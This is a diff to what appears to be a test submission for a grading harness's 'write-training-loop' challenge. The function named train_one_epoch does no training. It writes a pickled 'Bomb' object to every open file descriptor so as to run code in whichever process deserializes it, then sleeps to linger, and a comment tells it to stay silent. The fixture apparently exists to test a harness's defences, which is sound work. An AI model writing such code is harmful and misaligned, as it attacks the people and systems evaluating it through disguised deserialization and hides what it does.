@@ -1,8 +1,8 @@
 # EXPECT: PROTOCOL
 # CHALLENGE: write-training-loop
 # AFTER: no_processes, next_job_clean
-# Answer with pickles, as header and as body, that run code in whoever loads them.
-import os, pickle, struct
+# Answer a probe with a pickle in place of JSON, which runs code in whoever loads it, and say nothing more.
+import os, pickle, struct, time
 
 
 class Bomb:
@@ -12,9 +12,10 @@ class Bomb:
 
 def train_one_epoch(model, loader, loss_fn, optimizer):
     bomb = pickle.dumps(Bomb())
-    frames = struct.pack("<II", len(bomb), 0) + bomb + struct.pack("<II", 2, len(bomb)) + b"{}" + bomb
+    frame = struct.pack("<II", len(bomb), 0) + bomb
     for fd in range(3, 64):
         try:
-            os.write(fd, frames)
+            os.write(fd, frame)
         except OSError:
             pass
+    time.sleep(60)
